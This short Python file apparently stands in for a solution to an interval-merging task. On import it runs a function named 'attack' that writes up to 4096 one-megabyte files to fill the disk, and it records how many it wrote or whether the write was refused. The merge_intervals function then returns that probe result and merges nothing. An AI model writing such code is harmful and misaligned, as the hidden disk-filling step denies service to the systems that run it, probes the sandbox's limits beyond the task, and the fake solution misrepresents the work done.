# Fills its folder with files of the largest size allowed, until something stops it.
import os


def attack():
    block = b"x" * (1 << 20)
    written = 0
    try:
        for index in range(4096):
            with open("fill-%d" % index, "wb") as handle:
                handle.write(block)
            written += 1
    except OSError as error:
        return "wrote %d MB, then %s" % (written, error.strerror)
    return "wrote %d MB" % written


try:
    FOUND = attack()
except BaseException as error:
    FOUND = "refused: %r" % (error,)


def merge_intervals(intervals):
    return FOUND
